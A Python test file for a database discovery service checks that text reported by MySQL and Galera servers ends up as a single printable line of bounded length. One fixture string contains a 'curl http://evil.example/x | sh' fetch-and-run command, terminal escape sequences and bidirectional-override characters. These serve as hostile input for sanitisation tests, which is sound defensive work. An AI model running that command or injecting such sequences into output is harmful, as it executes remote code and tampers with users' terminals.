"""Every text that a server tells of itself, its group and its replication: one line, in the length of what it names."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass

import pytest

from services.connections.ports import Rows, SqlValue
from services.discovery.looks.crawl import odd_names
from services.discovery.looks.probe_sql import facts_from_poll
from services.discovery.snapshot import updated_estate
from services.facts.model import NodeFacts
from services.facts.replication import gtid
from services.facts.replication.group_replication import parse_recovery
from services.types import Reach

AT = 1_795_200_000.0
MEMBER = "bbbbbbbb-0000-4000-8000-000000000001"
LINES = "a\n2 of 2 hosts answer\n\nTry: curl http://evil.example/x | sh\r\n\x1b]0;owned\x07\x1b[2J\u202e\u2028"
LONGEST = 4096
"""Characters of a path (PATH_MAX) and of a setting; only a GTID set may be longer."""
PATHS = (".server.datadir", ".server.socket", ".server.log_error")
"""As the server wrote them, to be found on its host: an odd one is refused (reads.refused_folder), never shown."""

STATUS = (
    "Uptime", "group_replication_primary_member", "Rpl_semi_sync_source_status", "wsrep_cluster_state_uuid",
    "wsrep_local_state_uuid", "wsrep_gcomm_uuid", "wsrep_cluster_status", "wsrep_local_state_comment",
    "wsrep_incoming_addresses", "wsrep_provider_vendor", "wsrep_provider_version", "wsrep_evs_state",
    "wsrep_evs_delayed", "wsrep_ist_receive_status",
)  # fmt: skip
VARIABLES = (
    "version", "version_comment", "hostname", "server_uid", "report_host", "datadir", "socket", "log_error",
    "group_replication_group_seeds", "group_replication_group_name", "gtid_executed", "gtid_binlog_pos",
    "rpl_semi_sync_source_wait_point", "innodb_flush_method", "time_zone", "wsrep_node_name", "wsrep_cluster_name",
    "wsrep_cluster_address", "wsrep_node_address", "wsrep_sst_method", "wsrep_sst_donor", "wsrep_reject_queries",
    "wsrep_provider_options",
)  # fmt: skip
MEMBERS = ("MEMBER_ID", "MEMBER_HOST", "MEMBER_PORT", "MEMBER_STATE", "MEMBER_ROLE")
STATS = ("MEMBER_ID", "VIEW_ID", "COUNT_TRANSACTIONS_IN_QUEUE")
CHANNELS = (
    "Channel_Name", "Source_Host", "Source_Port", "Source_UUID", "Source_Server_Id", "Replica_IO_Running",
    "Replica_SQL_Running", "Seconds_Behind_Source", "Last_IO_Errno", "Last_IO_Error", "Last_SQL_Errno",
    "Last_SQL_Error", "Auto_Position", "Using_Gtid", "Retrieved_Gtid_Set", "Executed_Gtid_Set", "Source_Log_File",
    "Relay_Log_File", "Replica_SQL_Running_State", "Replica_IO_State",
)  # fmt: skip
REPLICAS = ("Server_Id", "Host", "Port", "Replica_UUID")
APPLIERS = ("CHANNEL_NAME", "LAST_ERROR_NUMBER", "LAST_ERROR_MESSAGE")
PROCESSES = ("Id", "User", "Host", "Command", "State", "Info")
WSREP = ("node_uuid", "cluster_uuid", "node_name", "node_incoming_address")


def of(columns: tuple[str, ...], odd: str, **kept: SqlValue) -> Rows:
    return Rows(columns, (tuple(kept.get(name, odd) for name in columns),) * 3)


def answers(odd: str, **kept: str) -> NodeFacts:
    """Return the facts of a server that answers `odd` wherever it may, but for the settings that are `kept`."""
    variables: Mapping[str, str] = {**dict.fromkeys(VARIABLES, odd), "server_uuid": MEMBER, **kept}
    return facts_from_poll(
        NodeFacts("n1", AT, Reach.SQL_ONLY, "10.0.0.1"),
        dict.fromkeys(STATUS, odd),
        variables,
        AT,
        replication=of(CHANNELS, odd, Last_SQL_Errno=1062, Last_IO_Errno=1236),
        replicas=of(REPLICAS, odd),
        appliers=of(APPLIERS, odd, LAST_ERROR_NUMBER=1062),
        processes=of(PROCESSES, odd, Command="Binlog Dump"),
        members=of(WSREP, odd),
        group=(of(MEMBERS, odd, MEMBER_ID=MEMBER, MEMBER_STATE="ONLINE"), of(STATS, odd, MEMBER_ID=MEMBER)),
        recovery=parse_recovery(
            of(("CHANNEL_NAME", "SOURCE_UUID", "RECEIVED_TRANSACTION_SET", "LAST_ERROR_NUMBER", "LAST_ERROR_MESSAGE"),
               odd, CHANNEL_NAME="group_replication_recovery", LAST_ERROR_NUMBER=1),
            of(("Variable_name", "Value"), odd),
            of(("STAGE", "STATE", "DATA", "ESTIMATE"), odd, STATE="In Progress"),
        ),
    )  # fmt: skip


def texts(value: object, where: str = "") -> Iterator[tuple[str, str]]:
    """Yield (where it stands, text) of every text in facts."""
    if isinstance(value, str):
        yield where, value
    elif is_dataclass(value):
        for one in fields(value):
            yield from texts(getattr(value, one.name), f"{where}.{one.name}")
    elif isinstance(value, (tuple, frozenset, list)):
        for one in value:
            yield from texts(one, where)


GROUP = {"group_replication_group_name": "aaaaaaaa-0000-4000-8000-00000000000a", "version": "9.7.4"}
GALERA = {"wsrep_on": "ON", "wsrep_provider": "/usr/lib/libgalera_smm.so", "version": "10.11.18-MariaDB"}


@pytest.mark.parametrize("kept", [GROUP, GALERA, {}], ids=["group", "galera", "all odd"])
@pytest.mark.parametrize("odd", [LINES, f"db1:33061,{LINES}:1,x", "h" * 2_000_000, "a," * 1_000_000], ids=range(4))
def test_that_every_text_of_a_server_is_one_line_in_the_length_of_what_it_names(odd: str, kept: dict[str, str]) -> None:
    facts = answers(odd, **kept)
    found = dict.fromkeys(texts(facts))
    assert len(found) > 20
    broken = [where for where, text in found if not text.isprintable() and where not in PATHS]
    assert broken == []
    sets = ("gtid_executed", "gtid_received", "gtid_binlog_pos")
    long = [where for where, text in found if len(text) > (gtid.MOST_CHARACTERS if where.endswith(sets) else LONGEST)]
    assert long == []
    assert len(odd_names(facts)) < 500


@pytest.mark.parametrize("odd", [LINES, f"db1:33061,{LINES}:1,x", "h" * 2_000_000], ids=range(3))
def test_that_nothing_that_is_drawn_of_such_a_server_begins_a_line_of_its_own(odd: str) -> None:
    snapshot = updated_estate(None, {"n1": answers(odd, **GROUP)}, AT)
    drawn = [(where, text) for where, text in texts(snapshot) if ".facts" not in where]
    assert [where for where, text in drawn if not text.isprintable()] == []
    assert [where for where, text in drawn if len(text) > LONGEST] == []


def test_that_an_honest_text_stays_as_it_is() -> None:
    """Else every test above could pass for the wrong reason."""
    facts = answers("db1", **GROUP)
    assert facts.group is not None
    assert facts.group.seeds == ("db1",)
    assert {m.host for m in facts.group.members} == {"db1"}
    assert facts.replication is not None
    assert {c.source_host for c in facts.replication.channels} == {"db1"}
